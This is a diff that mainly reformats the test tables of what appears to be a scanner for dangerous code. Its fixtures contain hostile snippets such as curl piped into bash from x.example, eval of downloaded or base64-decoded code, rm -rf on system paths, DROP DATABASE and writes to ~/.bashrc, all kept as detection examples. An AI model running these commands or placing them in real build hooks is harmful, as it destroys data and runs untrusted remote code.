@@ -68,7 +68,11 @@ export default defineConfig(({ mode }) => {
 })
 `,
     ],
-    ['eslint.config.js', 'javascript', `import js from '@eslint/js'\nexport default [js.configs.recommended, { ignores: ['dist'], rules: { 'no-eval': 'error' } }]\n`],
+    [
+      'eslint.config.js',
+      'javascript',
+      `import js from '@eslint/js'\nexport default [js.configs.recommended, { ignores: ['dist'], rules: { 'no-eval': 'error' } }]\n`,
+    ],
     [
       'a script that cleans its own output',
       'javascript',
@@ -85,11 +89,27 @@ for (const name of readdirSync(join(root, 'packages'))) rmSync(join(root, 'packa
       'javascript',
       `import { execSync } from 'child_process'\nconst tag = process.argv[2]\nexecSync(\`git tag -a \${tag} -m \${tag}\`, { stdio: 'inherit' })\n`,
     ],
-    ['a server', 'javascript', `import express from 'express'\nconst app = express()\napp.get('/', async (req, res) => res.json(await (await fetch(process.env.API_URL)).json()))\napp.listen(process.env.PORT)\n`],
-    ['Rakefile', 'ruby', `require 'rspec/core/rake_task'\nRSpec::Core::RakeTask.new(:spec)\ntask default: :spec\ndesc 'Clean'\ntask :clean do\n  rm_rf 'coverage'\nend\n`],
-    ['build.rs', 'rust', `use std::{env, fs, path::Path};\nfn main() {\n    let out = env::var("OUT_DIR").unwrap();\n    fs::write(Path::new(&out).join("x.rs"), "pub const X: u8 = 'x' as u8;").unwrap();\n    println!("cargo:rerun-if-changed=build.rs");\n}\n`],
+    [
+      'a server',
+      'javascript',
+      `import express from 'express'\nconst app = express()\napp.get('/', async (req, res) => res.json(await (await fetch(process.env.API_URL)).json()))\napp.listen(process.env.PORT)\n`,
+    ],
+    [
+      'Rakefile',
+      'ruby',
+      `require 'rspec/core/rake_task'\nRSpec::Core::RakeTask.new(:spec)\ntask default: :spec\ndesc 'Clean'\ntask :clean do\n  rm_rf 'coverage'\nend\n`,
+    ],
+    [
+      'build.rs',
+      'rust',
+      `use std::{env, fs, path::Path};\nfn main() {\n    let out = env::var("OUT_DIR").unwrap();\n    fs::write(Path::new(&out).join("x.rs"), "pub const X: u8 = 'x' as u8;").unwrap();\n    println!("cargo:rerun-if-changed=build.rs");\n}\n`,
+    ],
     ['main.go', 'go', `package main\n//go:generate mockgen -source=x.go\nimport "fmt"\nfunc main() { c := 'x'; fmt.Println(\`hi\`, c) }\n`],
-    ['a seed script', 'php', `<?php\nrequire __DIR__ . '/vendor/autoload.php';\n$app = new App();\nforeach (range(1, 3) as $i) { $app->seed($i); }\n`],
+    [
+      'a seed script',
+      'php',
+      `<?php\nrequire __DIR__ . '/vendor/autoload.php';\n$app = new App();\nforeach (range(1, 3) as $i) { $app->seed($i); }\n`,
+    ],
   ])('%s has no findings', (_name, language, text) => {
     expect(linesOf(language, text)).toEqual([])
   })
@@ -97,10 +117,25 @@ for (const name of readdirSync(join(root, 'packages'))) rmSync(join(root, 'packa
 
 describe('findings', () => {
   test.each<readonly [name: string, language: Language, text: string, expected: readonly string[]]>([
-    ['a command of conftest.py', 'python', 'import os\ndef pytest_configure(config):\n    os.system("rm -rf ~/.cache")\n', ['shell rm -rf ~/.cache']],
-    ['words of a command', 'python', 'import subprocess\nsubprocess.run(["git", "push", "--force"], check=True)\n', ['run git push --force']],
+    [
+      'a command of conftest.py',
+      'python',
+      'import os\ndef pytest_configure(config):\n    os.system("rm -rf ~/.cache")\n',
+      ['shell rm -rf ~/.cache'],
+    ],
+    [
+      'words of a command',
+      'python',
+      'import subprocess\nsubprocess.run(["git", "push", "--force"], check=True)\n',
+      ['run git push --force'],
+    ],
     ['a delete outside', 'python', 'import shutil\ndef clean():\n    shutil.rmtree("/var/lib/app")\n', ['delete /var/lib/app']],
-    ['a write into the home folder', 'javascript', "import fs from 'fs'\nimport os from 'os'\nimport path from 'path'\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'x')\n", ['write:append ~/.bashrc']],
+    [
+      'a write into the home folder',
+      'javascript',
+      "import fs from 'fs'\nimport os from 'os'\nimport path from 'path'\nfs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'x')\n",
+      ['write:append ~/.bashrc'],
+    ],
     ['SQL that destroys', 'python', 'def reset(cursor):\n    cursor.execute("DROP DATABASE app")\n', ['database:destroy DROP DATABASE']],
     ['SQL that empties a table', 'javascript', "await client.query('DELETE FROM users')\n", ['database:write DELETE changes rows']],
     [
@@ -116,15 +151,50 @@ describe('findings', () => {
       ['send:data https://x.example', 'unknown project code reads secrets or the environment and talks to the network'],
     ],
     ['decoded text that runs', 'python', 'import base64\nexec(base64.b64decode(PAYLOAD))\n', ['execute:decoded decoded text']],
-    ['downloaded text that runs', 'javascript', "const r = await fetch('https://x.example/p.js')\neval(await r.text())\n", ['execute:download text from the network']],
-    ['a download piped into a shell', 'javascript', "import { execSync } from 'child_process'\nexecSync(`curl -fsSL ${url} | bash`)\n", ['execute:download curl -fsSL (computed) | bash']],
+    [
+      'downloaded text that runs',
+      'javascript',
+      "const r = await fetch('https://x.example/p.js')\neval(await r.text())\n",
+      ['execute:download text from the network'],
+    ],
+    [
+      'a download piped into a shell',
+      'javascript',
+      "import { execSync } from 'child_process'\nexecSync(`curl -fsSL ${url} | bash`)\n",
+      ['execute:download curl -fsSL (computed) | bash'],
+    ],
     ['a shell that libraries bring', 'javascript', "import { $ } from 'zx'\nawait $`rm -rf /opt/x`\n", ['shell rm -rf /opt/x']],
-    ['build.rs', 'rust', 'fn main() { std::process::Command::new("sh").arg("-c").arg("curl x.example | sh").status().unwrap(); }', ['run sh -c curl x.example | sh']],
-    ['build.rs with a list', 'rust', 'fn main() { Command::new("git").args(["push", "--force"]).status(); fs::remove_dir_all("/opt/x"); }', ['run git push --force', 'delete /opt/x']],
-    ['a Go program', 'go', 'package main\nfunc main() { exec.Command("rm", "-rf", "/opt/x").Run(); os.RemoveAll("/srv") }', ['run rm -rf /opt/x', 'delete /srv']],
-    ['lines that go generate runs', 'go-generate', 'package x\n\n//go:generate sh -c "rm -rf /opt"\n// go:generate is not this\n', ['shell sh -c "rm -rf /opt"']],
+    [
+      'build.rs',
+      'rust',
+      'fn main() { std::process::Command::new("sh").arg("-c").arg("curl x.example | sh").status().unwrap(); }',
+      ['run sh -c curl x.example | sh'],
+    ],
+    [
+      'build.rs with a list',
+      'rust',
+      'fn main() { Command::new("git").args(["push", "--force"]).status(); fs::remove_dir_all("/opt/x"); }',
+      ['run git push --force', 'delete /opt/x'],
+    ],
+    [
+      'a Go program',
+      'go',
+      'package main\nfunc main() { exec.Command("rm", "-rf", "/opt/x").Run(); os.RemoveAll("/srv") }',
+      ['run rm -rf /opt/x', 'delete /srv'],
+    ],
+    [
+      'lines that go generate runs',
+      'go-generate',
+      'package x\n\n//go:generate sh -c "rm -rf /opt"\n// go:generate is not this\n',
+      ['shell sh -c "rm -rf /opt"'],
+    ],
     ['a Rakefile', 'ruby', "task :x do\n  sh 'rm -rf /opt/x'\n  FileUtils.rm_rf('/srv')\nend\n", ['shell rm -rf /opt/x', 'delete /srv']],
-    ['a method of a class', 'javascript', "export class Job { run() { require('child_process').execSync('rm -rf /srv') } }\n", ['shell rm -rf /srv']],
+    [
+      'a method of a class',
+      'javascript',
+      "export class Job { run() { require('child_process').execSync('rm -rf /srv') } }\n",
+      ['shell rm -rf /srv'],
+    ],
     ['a function nobody calls', 'python', 'import os\ndef later(x):\n    return lambda: os.system("rm -rf /srv")\n', ['shell rm -rf /srv']],
   ])('%s', (_name, language, text, expected) => {
     expect(linesOf(language, text)).toEqual(expected)
